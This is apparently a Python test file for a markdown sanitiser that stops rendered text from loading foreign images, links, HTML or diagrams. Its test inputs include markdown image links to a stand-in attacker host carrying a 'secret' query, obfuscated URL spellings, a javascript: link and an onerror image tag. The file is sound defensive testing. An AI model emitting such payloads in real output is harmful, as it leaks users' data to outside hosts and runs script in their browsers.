"""Text of others is shown as they wrote it, and makes the browser load or open nothing foreign."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ui.markdown import plain, safe_markdown

SPACE = "\u200b"


@pytest.mark.parametrize(
    "text",
    [
        "![chart](https://evil.example/p.png?q=secret)",
        "![chart]( https://evil.example/p.png)",
        "![chart](\nhttps://evil.example/p.png)",
        "![chart](<https://evil.example/p.png>)",
        "![chart](//evil.example/p.png)",
        "![chart](/\\evil.example/p.png)",
        "![chart](&#104;ttps://evil.example/p.png)",
        "![chart](ht&#116;ps://evil.example/p.png)",
        "![chart](data:image/png;base64,AAAA)",
        "[click](javascript:alert(1))",
        "[company.example](https://evil.example)",
        "![a][ref]\n\n[ref]: https://evil.example/p.png",
        "![a][ref]\n\n[ref]:\n  //evil.example/p.png",
        "[1]\n\n> [1]: https://evil.example",
        "```\n[a](https://evil.example)\n```",
    ],
)
def test_foreign_targets_are_cut_off_from_their_text(text: str) -> None:
    """Whatever the spelling, and inside code too, no image or link keeps its foreign target."""
    assert safe_markdown(text) == text.replace("](", f"]{SPACE}(").replace("]:", f"]{SPACE}:")


@pytest.mark.parametrize(
    "text",
    [
        "Annual leave is **15 days** [1][2].",
        "See https://wiki.example.com/leave for more.",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "연차는 15일입니다 [1].\n\n- 첫째\n- 둘째",
        "`handlers[name](event)` and `if x[0]: return`",
        "`vector<int>` and 3 < 4",
        "The formula $x^2$ holds.",
    ],
)
def test_ordinary_answers_are_left_alone(text: str) -> None:
    """Formatting, citations, tables, code and bare addresses pass unchanged."""
    assert safe_markdown(text) == text


@pytest.mark.parametrize("text", ["<img src=x onerror=alert(1)>", '<a href="//evil">x</a>', "</p class=x>"])
def test_html_is_broken(text: str) -> None:
    """A tag that could load or run something is text, even for a renderer that knows HTML."""
    assert safe_markdown(text).startswith(f"<{SPACE}")


@pytest.mark.parametrize("fence", ["```mermaid", "````  Mermaid", "~~~mermaid", "- ```mer&#109;aid"])
def test_diagrams_stay_code(fence: str) -> None:
    """Streamlit draws `mermaid` blocks, whose nodes may be foreign images; they are shown as code."""
    assert SPACE in safe_markdown(f'{fence}\nflowchart\nA@{{ img: "https://evil.example" }}\n')


def test_prices_are_no_formulas() -> None:
    """Two prices in a sentence are not taken for a formula between dollar signs; code keeps its dollars."""
    assert safe_markdown("$5 to $10, `$1`") == r"\$5 to \$10, `$1`"


@given(st.text(alphabet="![]()<>:/\\&# \nhtps`~x", max_size=60))
def test_safe_text_stays_safe(text: str) -> None:
    """Making text safe twice changes nothing: no step opens what another one closed."""
    once = safe_markdown(text)
    assert safe_markdown(once) == once


def test_names_are_shown_letter_by_letter() -> None:
    """No name or title, however odd, is formatting, an icon or an image in a label."""
    assert plain("a*b\n[x](y)") == r"a\*b \[x\]\(y\)"
    assert plain(":red[x]") == r"\:red\[x\]"
